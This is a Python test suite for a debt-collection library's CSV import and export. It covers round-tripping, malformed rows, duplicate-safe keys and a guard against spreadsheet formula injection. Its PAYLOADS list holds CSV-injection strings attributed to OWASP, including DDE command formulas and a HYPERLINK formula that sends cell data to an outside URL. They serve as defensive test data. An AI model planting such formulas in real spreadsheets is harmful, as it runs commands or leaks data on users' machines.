"""CSV in and out: no row is lost, none is booked twice, and no cell can do harm."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO, StringIO, TextIOWrapper
from itertools import product
from typing import Any

import pytest
from attrs import evolve
from hypothesis import example, given
from hypothesis import strategies as st
from moneyed import Money

from debitura_core import (
    AcceptCase,
    BalanceFilters,
    BalanceRow,
    BalanceSort,
    Claim,
    Debtor,
    DebtorKind,
    Done,
    HideFromBalance,
    InvalidInput,
    Keyed,
    ManagedBy,
    NotAllowed,
    Now,
    PartnerBalance,
    Phase,
    Recipient,
    RecordPayment,
    RecordRevenueItem,
    Refused,
    RegisterClient,
    RevenueItemKind,
    ScopedBooks,
    SubmitCase,
    errors,
)
from debitura_core.adapters.tables import (
    Bad,
    Good,
    harmless,
    read_cases,
    read_payments,
    write_balance,
)
from debitura_core.domain.kernel.countries import CURRENCY_OF
from debitura_core.domain.kernel.money import from_minor
from debitura_core.domain.money.balance import COLUMNS
from debitura_core.testing import days, ids, moneys, percents, texts
from tests.cast import CASE, Cast, Opened, eur, meeting, on_both_stores, payment, submission

PAYMENT = {
    "payment_id": "P1",
    "case_id": CASE,
    "amount": "100.10",
    "currency": "EUR",
    "received_by": "client",
    "received_on": "2026-02-28",
    "method": "bank transfer",
    "reference": "RE-7",
    "notes": 'said "soon", and paid',
    "settled": "",
}
CLAIM = {
    "case_id": "CASE0001",
    "client_id": "nordic",
    "partner_id": "acme",
    "client_reference": "RE-7",
    "success_fee": "9.5",
    "phase": "legal",
    "debtor_kind": "person",
    "debtor_name": "Käthe Großmann",
    "debtor_country": "DE",
    "currency": "EUR",
    "principal": "20000",
    "interest": "12.50",
    "reminder_fees": "",
    "collection_fees": "0",
    "invoice_date": "2025-11-03",
    "due_date": "2025-12-03",
}


def sheet(*rows: dict[str, str], quoting: Any = csv.QUOTE_MINIMAL) -> StringIO:
    """Write rows of the same columns as CSV, ready to be read."""
    file = StringIO(newline="")
    writer = csv.DictWriter(file, fieldnames=list(rows[0]), quoting=quoting)
    writer.writeheader()
    writer.writerows(rows)
    file.seek(0)
    return file


def lines(text: str) -> int:
    """Count lines as a file opened with ``newline=""`` does."""
    return sum(1 for _ in StringIO(text, newline=""))


def good(found: Iterator[Good[Any] | Bad]) -> list[Good[Any]]:
    """Return all rows, each of which is good."""
    rows = list(found)
    assert all(isinstance(row, Good) for row in rows), rows
    return [row for row in rows if isinstance(row, Good)]


def only_bad(found: Iterator[Good[Any] | Bad]) -> Bad:
    """Return the one row, which is bad."""
    (row,) = found
    assert isinstance(row, Bad)
    return row


# ------------------------------------------------------------------ what is read is what is written

hostile = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.text(
    " \t\r\n\",;'=+-@\x00\u202e\u200fא😀0aP", max_size=12
)
"""Text of any kind, and much of the kind that breaks tables."""

kept = texts() | st.builds("{}\n{}".format, texts(), texts())
"""Text that the books take, over two lines too."""


@st.composite
def payments_of_any_kind(draw: st.DrawFn) -> RecordPayment:
    return RecordPayment(
        case_id=draw(ids()),
        amount=draw(moneys()),
        received_by=draw(st.sampled_from(Recipient)),
        received_on=draw(days()),
        method=draw(st.none() | texts()),
        reference=draw(st.none() | kept),
        notes=draw(st.none() | kept),
        payment_id=draw(st.none() | ids()),
        settled=draw(st.booleans()),
    )


@st.composite
def submissions_of_any_kind(draw: st.DrawFn) -> SubmitCase:
    amounts = moneys(min_minor=0, currencies=(draw(st.sampled_from(("EUR", "JPY", "KWD"))),))
    first, last = sorted((draw(days()), draw(days())))
    return SubmitCase(
        case_id=draw(st.none() | ids()),
        client_id=draw(st.none() | ids()),
        partner_id=draw(st.none() | ids()),
        client_reference=draw(st.none() | texts()),
        success_fee=draw(percents()),
        phase=draw(st.sampled_from(Phase)),
        debtor=Debtor(
            kind=draw(st.sampled_from(DebtorKind)),
            name=draw(kept),
            country=draw(st.sampled_from(sorted(CURRENCY_OF))),
        ),
        claim=Claim(
            principal=draw(amounts.filter(bool)),
            interest=draw(st.none() | amounts),
            reminder_fees=draw(st.none() | amounts),
            collection_fees=draw(st.none() | amounts),
            invoice_date=first,
            due_date=last,
        ),
    )


def plain(amount: Money | None) -> str:
    """Write an amount as files do, and nothing as an empty cell."""
    return "" if amount is None else str(amount.amount)


def payment_cells(command: RecordPayment) -> dict[str, str]:
    return {
        "payment_id": command.payment_id or "",
        "case_id": command.case_id,
        "amount": plain(command.amount),
        "currency": command.amount.currency.code,
        "received_by": command.received_by.value,
        "received_on": command.received_on.isoformat(),
        "method": command.method or "",
        "reference": command.reference or "",
        "notes": command.notes or "",
        "settled": "yes" if command.settled else "no",
    }


def case_cells(command: SubmitCase) -> dict[str, str]:
    return {
        "case_id": command.case_id or "",
        "client_id": command.client_id or "",
        "partner_id": command.partner_id or "",
        "client_reference": command.client_reference or "",
        "success_fee": command.success_fee.text,
        "phase": command.phase.value,
        "debtor_kind": command.debtor.kind.value,
        "debtor_name": command.debtor.name,
        "debtor_country": command.debtor.country,
        "currency": command.claim.currency,
        "principal": plain(command.claim.principal),
        "interest": plain(command.claim.interest),
        "reminder_fees": plain(command.claim.reminder_fees),
        "collection_fees": plain(command.claim.collection_fees),
        "invoice_date": command.claim.invoice_date.isoformat(),
        "due_date": command.claim.due_date.isoformat(),
    }


quotings = st.sampled_from((csv.QUOTE_MINIMAL, csv.QUOTE_ALL))


@given(
    commands=st.lists(payments_of_any_kind(), min_size=1, max_size=5),
    quoting=quotings,
)
def test_payments_are_read_as_they_were_written(
    commands: list[RecordPayment], quoting: int
) -> None:
    """A file of payments gives back exactly the payments it was written from, in their order."""
    rows = good(read_payments(sheet(*map(payment_cells, commands), quoting=quoting)))
    assert [row.command for row in rows] == commands
    assert [row.row for row in rows] == [payment_cells(command) for command in commands]


@given(
    commands=st.lists(submissions_of_any_kind(), min_size=1, max_size=5),
    quoting=quotings,
)
def test_cases_are_read_as_they_were_written(commands: list[SubmitCase], quoting: int) -> None:
    """A file of cases gives back exactly the cases it was written from, in their order."""
    rows = good(read_cases(sheet(*map(case_cells, commands), quoting=quoting)))
    assert [row.command for row in rows] == commands


def test_an_empty_cell_says_nothing() -> None:
    """What a row may leave out is left out of the command, or what goes without saying."""
    (told,) = good(read_cases(sheet({**CLAIM, "phase": "", "client_reference": ""})))
    assert told.command.phase is Phase.PRE_LEGAL
    assert told.command.client_reference is None
    assert told.command.claim.reminder_fees is None
    assert told.command.claim.collection_fees == eur("0")
    bare = {name: PAYMENT[name] for name in "case_id amount currency".split()}
    bare |= {"received_by": "partner", "received_on": "2026-02-28"}
    (paid,) = good(read_payments(sheet(bare)))
    assert paid.command == payment(eur("100.10"), received_on=date(2026, 2, 28))


def test_columns_the_library_does_not_know_stay_in_the_row() -> None:
    """Columns may stand in any order, and others beside them; all cells are there to be read."""
    cells = {"submitted_on": "2026-01-07", "": "unnamed", **dict(reversed(PAYMENT.items()))}
    (row,) = good(read_payments(sheet(cells)))
    assert row.row["submitted_on"] == "2026-01-07"
    assert row.command == good(read_payments(sheet(PAYMENT)))[0].command


@pytest.mark.parametrize("encoding", ("utf-8", "utf-8-sig"))
@pytest.mark.parametrize("end", ("\n", "\r\n", "\r"), ids=("LF", "CRLF", "CR"))
def test_byte_order_mark_and_line_ends_do_not_matter(encoding: str, end: str) -> None:
    """A file reads the same with a byte order mark and without, whatever its lines end with."""
    text = "case_id,amount,currency,received_by,received_on\n"
    text = "\ufeff" + (text + f"{CASE},7,EUR,partner,2026-02-28\n").replace("\n", end)
    file = TextIOWrapper(BytesIO(text.encode()), encoding=encoding, newline="")
    (row,) = good(read_payments(file))
    assert (row.number, row.command.amount) == (2, eur("7"))


# ------------------------------------------------------------------------------ no row is lost


@given(
    rows=st.lists(
        st.lists(hostile, min_size=1, max_size=11) | st.permutations(list(PAYMENT.values())),
        max_size=6,
    ),
    quoting=quotings,
)
def test_every_row_is_good_or_bad_and_none_is_lost(rows: list[list[str]], quoting: int) -> None:
    """Whatever the cells hold, each row comes out once, under the line it begins in."""
    file = StringIO(newline="")
    writer = csv.writer(file, quoting=quoting)  # type: ignore[arg-type]
    writer.writerow(PAYMENT)
    begun = []
    for row in rows:
        begun.append(1 + lines(file.getvalue()))
        writer.writerow(row)
    file.seek(0)
    assert [row.number for row in read_payments(file)] == begun


@given(text=hostile | st.lists(hostile, max_size=6).map("\n".join))
@example(text='"\n\n"\n"')
@example(text='a\n"b\nc')
def test_no_text_stops_the_file(text: str) -> None:
    """However broken the text is, reading goes on to its end; each line is in one row or blank."""
    file = StringIO(",".join(PAYMENT) + "\n" + text, newline="")
    numbers = [row.number for row in read_payments(file)]
    assert numbers == sorted(set(numbers))
    written = list(StringIO(text, newline=""))
    if '"' not in text:
        filled = [n for n, line in enumerate(written, start=2) if line.strip("\r\n")]
        assert numbers == filled
    assert set(numbers) <= set(range(2, len(written) + 2))


def test_an_open_quote_costs_its_own_line_only() -> None:
    """A quote that is never closed ruins one payment, not all the payments after it."""
    text = sheet(*[{**PAYMENT, "notes": "", "payment_id": f"P{n}"} for n in range(1, 8)]).getvalue()
    spoilt = text.replace("P3,", 'P3,"').replace("P5,", '"P5,')
    rows = list(read_payments(StringIO(spoilt, newline="")))
    assert [row.number for row in rows] == [2, 3, 4, 5, 6, 7, 8]
    assert [row.command.payment_id for row in rows if isinstance(row, Good)] == [
        "P1", "P2", "P4", "P6", "P7",
    ]  # fmt: skip


def test_a_file_cannot_have_itself_read_over_and_over() -> None:
    """Lines that each look like the rest of the one before are told of, and cost two readings."""
    count, drawn = 12_000, 0

    def trap() -> Iterator[str]:
        nonlocal drawn
        yield ",".join(PAYMENT) + "\n"
        for _ in range(count):
            drawn += 1
            yield 'x","\n'

    rows = list(read_payments(trap()))
    assert drawn == count
    assert len(rows) < 10
    assert [row.number for row in rows[:2]] == [2, 3]
    last = rows[1]
    assert isinstance(last, Bad)
    assert str(last.error).endswith(f"to line {count + 1}")


def test_a_row_over_several_lines_counts_from_its_first() -> None:
    """Line feeds inside quotes stay in the cell, and the rows after it keep their line numbers."""
    long = {**PAYMENT, "payment_id": "P1", "notes": "one\ntwo\n\nfour"}
    file = sheet(long, {**PAYMENT, "payment_id": "P2"})
    blank = StringIO(file.getvalue().replace("P2", "\r\n\r\nP2"), newline="")
    assert [row.number for row in good(read_payments(file))] == [2, 6]
    first, second = good(read_payments(blank))
    assert (first.command.notes, second.number) == ("one\ntwo\n\nfour", 8)


def test_what_stands_in_quotes_never_becomes_a_row_of_its_own() -> None:
    """A note that looks like a payment is no payment, even in a row that is refused."""
    trap = f"x\nP9,{CASE},9999.00,EUR,client,2026-02-28,,,,yes\nx"
    wide = {**PAYMENT, "notes": trap, "settled": "yes,too"}
    text = sheet(wide).getvalue().replace('"yes,too"', "yes,too")
    assert only_bad(read_payments(StringIO(text, newline=""))).number == 2


def test_rows_are_read_as_they_are_drawn() -> None:
    """A file of any length is read row by row: nothing is drawn before it is asked for."""
    drawn = 0

    def endless() -> Iterator[str]:
        nonlocal drawn
        yield ",".join(PAYMENT) + "\r\n"
        while True:
            drawn += 1
            yield ",".join({**PAYMENT, "notes": ""}.values()) + "\r\n"

    rows = read_payments(endless())
    assert drawn == 0
    next(rows), next(rows)
    assert drawn == 2


# ------------------------------------------------------------------------- bad rows and bad files

BAD_PAYMENTS = [
    ("case_id", "", "cannot be empty"),
    ("case_id", "Q8 OAXF3W", "1 to 64 of the characters"),
    ("payment_id", "P 1", "1 to 64 of the characters"),
    ("payment_id", "é", "1 to 64 of the characters"),
    ("amount", "", "cannot be empty"),
    ("amount", "1.234,50", "plain digits with a point"),
    ("amount", "1,234.50", "plain digits with a point"),
    ("amount", " 12 ", "plain digits with a point"),
    ("amount", "1e3", "plain digits with a point"),
    ("amount", "1_000", "plain digits with a point"),
    ("amount", "+5", "plain digits with a point"),
    ("amount", "€5", "plain digits with a point"),
    ("amount", "١٢", "plain digits with a point"),
    ("amount", "NaN", "plain digits with a point"),
    ("amount", "120.505", "EUR has 2 decimals"),
    ("amount", "0", "greater than zero"),
    ("amount", "-5.00", "greater than zero"),
    ("amount", "10000000000000", "below 10^15 minor units"),
    ("currency", "", "cannot be empty"),
    ("currency", "eur", "three capitals, like EUR"),
    ("currency", "Euro", "three capitals, like EUR"),
    ("currency", "XQQ", "XQQ is not a known currency code"),
    ("received_by", "", "cannot be empty"),
    ("received_by", "PARTNER", "one of partner, client, platform"),
    ("received_by", "partner ", "one of partner, client, platform"),
    ("received_on", "", "cannot be empty"),
    ("received_on", "2025-02-31", "a day that exists, like 2025-03-31"),
    ("received_on", "31.12.2025", "a day that exists, like 2025-03-31"),
    ("received_on", "20251231", "a day that exists, like 2025-03-31"),
    ("received_on", "2025-W01-1", "a day that exists, like 2025-03-31"),
    ("received_on", "2025-12-31T00:00:00", "a day that exists, like 2025-03-31"),
    ("received_on", "1899-12-31", "of the years 1900 to 9998"),
    ("method", "   ", "a blank text says nothing"),
    ("method", "x" * 101, "101 characters, at most 100"),
    ("reference", "bell\x07", "control characters"),
    ("notes", "half a pair \ud800", "control characters and lone surrogates"),
    ("settled", "true", "yes or no"),
]
BAD_CASES = [
    ("success_fee", "9,5", "percentage points from 0 to 100"),
    ("success_fee", "100.01", "percentage points from 0 to 100"),
    ("success_fee", "9.5%", "percentage points from 0 to 100"),
    ("phase", "Legal", "one of pre_legal, legal, enforcement"),
    ("debtor_kind", "", "cannot be empty"),
    ("debtor_kind", "COMPANY", "one of company, person"),
    ("debtor_name", "", "cannot be empty"),
    ("debtor_name", "nul \x00", "control characters"),
    ("debtor_country", "Germany", "two capital letters, like DE"),
    ("debtor_country", "XX", "two capital letters, like DE"),
    ("principal", "0", "greater than zero"),
    ("principal", "12.345", "EUR has 2 decimals"),
    ("interest", "-0.01", "greater than zero"),
    ("interest", "0.5 EUR", "plain digits with a point"),
    ("collection_fees", "none", "plain digits with a point"),
    ("due_date", "2025-11-02", "falls due after its invoice date"),
    ("invoice_date", "2025-11-31", "a day that exists"),
    ("client_id", "nordic!", "1 to 64 of the characters"),
    ("client_reference", "x" * 51, "51 characters, at most 50"),
]


@pytest.mark.parametrize(("column", "cell", "reason"), BAD_PAYMENTS)
def test_a_bad_payment_is_refused_by_column_and_reason(column: str, cell: str, reason: str) -> None:
    """A row that says nothing bookable tells its line, its column and what to write instead."""
    found = list(read_payments(sheet(PAYMENT, {**PAYMENT, column: cell}, PAYMENT)))
    assert [type(row) for row in found] == [Good, Bad, Good]
    bad = found[1]
    assert isinstance(bad, Bad)
    assert bad.number == 3
    assert isinstance(bad.error, InvalidInput)
    assert bad.error.facts["field"] == column
    assert reason in str(bad.error)


@pytest.mark.parametrize(("column", "cell", "reason"), BAD_CASES)
def test_a_bad_case_is_refused_by_column_and_reason(column: str, cell: str, reason: str) -> None:
    """A row that says no case tells its line, its column and what to write instead."""
    bad = only_bad(read_cases(sheet({**CLAIM, column: cell})))
    assert bad.number == 2
    assert isinstance(bad.error, InvalidInput)
    assert bad.error.facts["field"] == column
    assert reason in str(bad.error)


@pytest.mark.parametrize(
    ("row", "reason"),
    (
        ("P1,Q8OAXF3W", "2 cells under 10 columns"),
        ("P1,Q8OAXF3W,1.234,50,EUR,partner,2026-02-28,,,,", "11 cells under 10 columns"),
        (",,,,,,,,,", "case_id: this cell cannot be empty"),
        (" ", "1 cells under 10 columns"),
        ('P1,"Q8OAXF3W"x,5,EUR,partner,2026-02-28,,,,', "not CSV"),
        ('P1,Q8OAXF3W,5,EUR,partner,2026-02-28,,"a,', "not CSV"),
        (f"P1,{'x' * 140_000},5,EUR,partner,2026-02-28,,,,", "not CSV"),
    ),
    ids=("too few", "too many", "all empty", "a blank", "after quote", "open quote", "too long"),
)
def test_a_row_out_of_shape_is_refused_and_the_next_is_read(row: str, reason: str) -> None:
    """A row with too many cells, too few or broken quotes is refused, and reading goes on."""
    after = ",".join({**PAYMENT, "notes": ""}.values())
    refused, read = read_payments(f"{line}\r\n" for line in (",".join(PAYMENT), row, after))
    assert isinstance(refused, Bad)
    assert (refused.number, type(refused.error)) == (2, InvalidInput)
    assert reason in str(refused.error)
    assert isinstance(read, Good)
    assert read.number == 3


@given(
    shift=st.integers(1, len(PAYMENT) - 1) | st.none(),
    secret=st.sampled_from(("Käthe Großmann", "Canary Ltd", "O'Secret", "DE12 3456")),
    data=st.data(),
)
def test_a_refusal_never_repeats_what_a_cell_holds(
    shift: int | None, secret: str, data: st.DataObject
) -> None:
    """A name may slip into any column: no refusal shows it, nor keeps the frames that hold it."""
    for read, cells in ((read_payments, PAYMENT), (read_cases, CLAIM)):
        column = data.draw(st.sampled_from(sorted(cells)))
        values = list({**cells, column: secret}.values())
        turned = values[shift or 0 :] + values[: shift or 0]
        for row in read(sheet(dict(zip(cells, turned, strict=True)))):
            assert secret not in repr(row)
            if isinstance(row, Bad):
                assert secret not in f"{row.error} {row.error.facts}"
                assert row.error.__traceback__ is None
                assert row.error.__context__ is None


@pytest.mark.parametrize(
    ("header", "reason"),
    (
        ("", "case_id, amount, currency, received_by, received_on missing"),
        ("case_id;amount;currency;received_by;received_on", "separated by commas"),
        ("case_id,amount,received_by,received_on", "currency missing"),
        ("case_id,Amount,currency,received_by,received_on", "amount missing"),
        ("case_id,amount,currency,received_by,received_on, notes", "write column 6 as notes"),
        ("case_id,amount,currency,received_by,received_on,Payment-ID", "column 6 as payment_id"),
        ("case_id,amount,currency,received_by,received_on,amount", "column 6 has the name of"),
        ('case_id,"amount', "not CSV"),
    ),
)
def test_a_file_without_its_columns_is_refused_at_once(header: str, reason: str) -> None:
    """One clear refusal for the whole file, before anything is booked, and not one per row."""
    with pytest.raises(InvalidInput, match=reason):
        read_payments(StringIO(f"{header}\n{CASE},1,EUR,partner,2026-02-28\n", newline=""))


def test_a_file_without_a_header_is_refused_without_repeating_it() -> None:
    """The first row of a file that names no columns may be somebody's name: it is not shown."""
    with pytest.raises(InvalidInput) as refusal:
        read_cases(StringIO(",".join(CLAIM.values()), newline=""))
    assert CLAIM["debtor_name"] not in f"{refusal.value} {refusal.value.facts}"


@pytest.mark.parametrize("file", ("payments.csv", b"case_id"), ids=("a path", "bytes"))
def test_a_path_is_not_taken_for_a_file(file: Any) -> None:
    """Who gives a path is told to open it; its letters are not read as lines."""
    with pytest.raises(InvalidInput, match="open file"):
        read_payments(file)


def test_a_file_of_bytes_is_refused() -> None:
    """A file that was opened without an encoding is refused, for nobody can tell what it says."""
    file: Any = BytesIO(sheet(PAYMENT).getvalue().encode())
    with pytest.raises(InvalidInput, match="not as bytes"):
        read_payments(file)


def test_a_file_in_another_encoding_is_refused_or_read_row_by_row() -> None:
    """The wrong encoding is named; who asks for it loses the spoilt rows only."""
    text = sheet({**PAYMENT, "notes": "plain"}, {**PAYMENT, "notes": "Käthe"}).getvalue()
    strict = TextIOWrapper(BytesIO(text.encode("latin-1")), encoding="utf-8", newline="")
    with pytest.raises(InvalidInput, match="encoding"):
        list(read_payments(strict))
    lenient = TextIOWrapper(
        BytesIO(text.encode("latin-1")), encoding="utf-8", errors="surrogateescape", newline=""
    )
    first, second = read_payments(lenient)
    assert isinstance(first, Good)
    assert isinstance(second, Bad)
    assert second.error.facts["field"] == "notes"


# ------------------------------------------------------------------------------ booked once

plain_rows = st.lists(
    st.builds(
        lambda amount, by, note: {**PAYMENT, "amount": amount, "received_by": by, "notes": note},
        st.sampled_from(("1.00", "2.50")),
        st.sampled_from(("partner", "client")),
        st.sampled_from(("", "a", "b")),
    ),
    min_size=1,
    max_size=8,
)
"""Rows of which many are equal; they name no payment id."""


def keys(*rows: dict[str, str]) -> list[str]:
    return [row.key for row in good(read_payments(sheet(*rows)))]


@given(rows=plain_rows)
def test_each_row_has_a_key_of_its_own_and_keeps_it(rows: list[dict[str, str]]) -> None:
    """The same file gives the same keys, as the desk takes them, and no two rows share one."""
    given_keys = keys(*rows)
    assert given_keys == keys(*rows)
    assert len(set(given_keys)) == len(rows)
    assert all(re.fullmatch("[A-Za-z0-9_-]{1,64}", key) for key in given_keys)


@given(rows=plain_rows, more=plain_rows, note=texts())
def test_a_key_is_made_of_what_the_row_says(
    rows: list[dict[str, str]], more: list[dict[str, str]], note: str
) -> None:
    """Other columns, their order and other rows change no key; another amount does."""
    first = keys(*rows)
    assert keys(*[{"exported": note, **dict(reversed(row.items()))} for row in rows]) == first
    assert keys(*rows, *more)[: len(rows)] == first
    assert sorted(keys(*reversed(rows))) == sorted(first)
    assert set(keys(*[{**row, "amount": "3.00"} for row in rows])).isdisjoint(first)


def test_text_cannot_move_between_cells_without_changing_the_key() -> None:
    """Two rows share a key only if they agree cell by cell, however their text is cut."""
    names, pieces = ("method", "reference", "notes"), ("", "a", ",", "a,", ",a", '","')
    rows = [
        {**PAYMENT, **dict(zip(names, cells, strict=True))} for cells in product(pieces, repeat=3)
    ]
    assert len(set(keys(*rows))) == len(rows)


def test_keys_stay_what_they_are() -> None:
    """A file imported with one version of the library is not booked again by the next."""
    assert (
        good(read_cases(sheet(CLAIM)))[0].key
        == "case-2f25c30543b11356be47cf442688c37b83d1730a5e44d0e8"
    )
    assert keys(PAYMENT, PAYMENT) == [
        "payment-14aadeeb0ee0b4b54cdbf3d4a620cccc9062a4325e6e9be0",
        "payment-90c4df32eb86844e46aa4566b10852ee00693913e5f7d99b",
    ]


@on_both_stores
def test_a_file_imported_twice_is_booked_once(store: Opened) -> None:
    """Importing cases and payments again replays every answer and writes nothing."""
    cases = [{**CLAIM, "case_id": f"CASE{n:04}", "client_reference": f"RE-{n}"} for n in range(5)]
    paid = [{**PAYMENT, "case_id": f"CASE{n:04}", "payment_id": f"P{n}"} for n in range(4)]
    with meeting(store) as cast:
        for round_ in range(2):
            done = cast.ops.do_all(row.keyed() for row in good(read_cases(sheet(*cases))))
            assert [_replayed(one) for one in done] == [round_ == 1] * 5
        for case in cases:
            cast.anna.do(AcceptCase(case_id=case["case_id"]))
        for round_ in range(2):
            done = cast.anna.do_all(row.keyed() for row in good(read_payments(sheet(*paid))))
            assert [_replayed(one) for one in done] == [round_ == 1] * 4
            assert len(cast.anna.ask(PartnerBalance()).rows) == 4


def _replayed(done: Done[Any] | Refused) -> bool:
    assert isinstance(done, Done)
    return done.replayed


@on_both_stores
def test_two_equal_rows_are_two_payments(store: Opened) -> None:
    """A debtor may pay the same sum twice on a day; a longer file adds only what is new."""
    row = {**PAYMENT, "payment_id": ""}
    with meeting(store) as cast:
        cast.case()
        for equal, booked in ((2, 2), (2, 2), (3, 3), (1, 3)):
            found = good(read_payments(sheet(*[row] * equal)))
            cast.anna.do_all(one.keyed() for one in found)
            assert len(cast.anna.ask(PartnerBalance()).rows) == booked


@on_both_stores
def test_a_refused_row_costs_no_other_and_is_refused_again(store: Opened) -> None:
    """What the books refuse stands beside its command; the file may be imported again."""
    rows = [{**PAYMENT, "payment_id": f"P{n}"} for n in range(3)]
    rows[1]["case_id"] = "NOSUCH00"
    with meeting(store) as cast:
        cast.case()
        for replayed in (False, True):
            found = good(read_payments(sheet(*rows)))
            first, second, third = cast.anna.do_all(one.keyed() for one in found)
            assert _replayed(first) is replayed
            assert isinstance(second, Refused)
            assert isinstance(second.error, errors.NotFound)
            assert _replayed(third) is replayed


@on_both_stores
def test_a_year_is_brought_in_as_history_once(store: Opened) -> None:
    """A payment is booked at its own instant; brought in again, it has no effect."""
    rows = [{**PAYMENT, "payment_id": f"P{n}", "received_on": f"2026-02-0{n}"} for n in range(1, 5)]
    with meeting(store, at=datetime(2026, 1, 31, 9, tzinfo=UTC), history=True) as cast:
        cast.case()
        cast.clock.advance(days=30)
        for replayed in (False, True):
            wanted = [
                row.keyed(at=datetime.fromisoformat(f"{row.row['received_on']}T12:00+00:00"))
                for row in good(read_payments(sheet(*rows)))
            ]
            assert [_replayed(one) for one in cast.anna.do_all(wanted)] == [replayed] * 4
        created = [row.date_created for row in cast.anna.ask(PartnerBalance()).rows]
        assert [at.day for at in created] == [4, 3, 2, 1]


def test_a_row_without_an_instant_is_keyed_only() -> None:
    """Asked for nothing else, a row gives its command under its key, to be decided now."""
    (row,) = good(read_payments(sheet(PAYMENT)))
    assert row.keyed() == Keyed(command=row.command, key=row.key)


# ------------------------------------------------------------------------------- going out

# From the page "CSV Injection" of OWASP, and the same in disguise.
PAYLOADS = (
    "=1+2", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'", '=HYPERLINK("http://example.com?x="&A1,"Error")', "\t=1+1",
    "\tplain", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff@x", "\u202e=1+1", "\n=1+1", " \nplain",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "　＝1", "'=1+1", "''+1", "-100.00", "+45 20 20 20 20",
)  # fmt: skip
PLAIN = (
    "Müller & Söhne", "O'Rourke", "'quoted'", "1+1=2", "a=b", "a@example.com", "é", "(-5)", "0",
    "100.00", "佐藤", "שלום", "😀", '"=1+1"', "x\n=1", "–5", "%x", "|x", "", "¡=!", "E-1",
)  # fmt: skip

_FORMULA = re.compile(r"(?s)'*(?:[\t\r\n]|\W*?[=+\-@＝＋－＠])")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_becomes_text(text: str) -> None:
    """What a spreadsheet would run gets a ' before it, so that it is shown instead."""
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_text_that_is_no_formula_is_left_alone(text: str) -> None:
    """Text that does no harm is not touched."""
    assert harmless(text) == text


@example(text=" \n")
@given(text=hostile | st.sampled_from(PAYLOADS + PLAIN).flatmap(lambda p: hostile.map(p.__add__)))
def test_the_guard_can_be_taken_off_again(text: str) -> None:
    """Nothing that begins a formula is left, and what was there before can be told exactly."""
    safe = harmless(text)
    assert not re.match(r"\s*[=+\-@＝＋－＠\t\r\n]", safe)
    assert (safe == text) or (safe == "'" + text and harmless(safe) == "'" + safe)


def exported(cast: Cast, **asked: Any) -> list[dict[str, str]]:
    """Write the ledger, and read it back with the standard library."""
    file = StringIO(newline="")
    count = write_balance(cast.anna, PartnerBalance(**asked), file)
    file.seek(0)
    rows = list(csv.DictReader(file, strict=True))
    assert len(rows) == count
    return rows


HEADING = dict(zip(COLUMNS.names, COLUMNS.headings, strict=True))


def words(row: BalanceRow) -> dict[str, str]:
    """Say what people read of a row, with amounts as plain figures of its currency."""
    texts = zip(COLUMNS.headings, COLUMNS.texts()(row), strict=True)
    currency = f"{row.currency} "
    return {
        heading: (text or "").removeprefix(currency).replace(",", "")
        if (text or "").startswith(currency)
        else text or ""
        for heading, text in texts
    }


@on_both_stores
def test_the_file_holds_what_the_table_shows(store: Opened) -> None:
    """All sixteen columns of the ledger, row by row, with amounts as plain figures."""
    with meeting(store) as cast:
        for case_id, currency in (("EUR00001", "EUR"), ("JPY00001", "JPY"), ("KWD00001", "KWD")):
            principal = from_minor(1_234_567, currency)
            cast.case(case_id, claim=evolve(submission().claim, principal=principal),
                      client_reference=f"RE {currency}")  # fmt: skip
            cast.pay(from_minor(100_001, currency), case_id, received_by=Recipient.CLIENT)
            cast.clock.advance(days=1)
        cast.anna.do(
            RecordRevenueItem(
                case_id="EUR00001", kind=RevenueItemKind.FIXED_FEE, on=date(2026, 3, 2),
                amount=eur("150"),
            )
        )  # fmt: skip
        asked: dict[str, Any] = {"columns": COLUMNS.names, "sort": BalanceSort.OLDEST_CREATED}
        rows = exported(cast, **asked)
        table = cast.anna.ask(PartnerBalance(**asked)).rows
        assert len(rows) == len(table) == 4
        for written, row in zip(rows, table, strict=True):
            assert written == {**words(row), "Currency": row.currency}


def test_amounts_are_plain_figures_with_their_currency_last() -> None:
    """A spreadsheet can add the amounts up; their currency stands in a column of its own."""
    with meeting() as cast:
        cast.case()
        cast.pay(eur("10000"))
        (row,) = exported(cast)
        assert list(row) == [*[HEADING[name] for name in COLUMNS.default.names], "Currency"]
        assert (row["Revenue"], row["Debitura fee"], row["Currency"]) == ("570.00", "380.00", "EUR")
        assert row["Payment date"] == "2026-03-01"
        (named,) = exported(cast, columns=("success_fee", "client"))
        assert named == {"Success fee": "9.50%", "Client": "Nordic Supplies"}


def test_lines_end_as_rfc_4180_has_it() -> None:
    """Header and rows end in CR LF, and cells are quoted only where they must be."""
    with meeting() as cast:
        cast.case(debtor=evolve(submission().debtor, name='Söhne, "Muster" & Co'))
        cast.pay(eur("7"))
        file = StringIO(newline="")
        columns = ("case_id", "debtor_name", "debtor_payments")
        assert write_balance(cast.anna, PartnerBalance(columns=columns), file) == 1
        assert file.getvalue() == (
            "Case id,Debtor name,Debtor payments,Currency\r\n"
            'Q8OAXF3W,"Söhne, ""Muster"" & Co",7.00,EUR\r\n'
        )


def test_an_empty_ledger_is_a_header() -> None:
    """A partner without a payment gets a file that says so in its columns."""
    with meeting() as cast:
        file = StringIO(newline="")
        assert write_balance(cast.anna, PartnerBalance(columns=("client",)), file) == 0
        assert file.getvalue() == "Client\r\n"


@given(
    names=st.tuples(kept, kept, texts(max_size=50))
    | st.tuples(*[st.sampled_from([text for text in PAYLOADS + PLAIN if text])] * 3)
)
def test_hostile_text_comes_back_as_it_went_in(names: tuple[str, str, str]) -> None:
    """Quotes, line feeds, any script and emoji survive the file; only the guard is added."""
    client, debtor, reference = names
    with meeting(audited=False) as cast:
        cast.ops.do(RegisterClient(client_id="hostile", name=client, country="DK"))
        told = evolve(submission().debtor, name=debtor)
        cast.case(client_id="hostile", debtor=told, client_reference=reference)
        cast.pay(eur("12.34"))
        columns = ("client", "debtor_name", "client_reference", "revenue")
        (row,) = exported(cast, columns=columns)
    assert row["Client"] == harmless(client)
    assert row["Debtor name"] == harmless(debtor)
    assert row["Client Reference"] == harmless(reference)
    assert row["Revenue"] == "0.70"


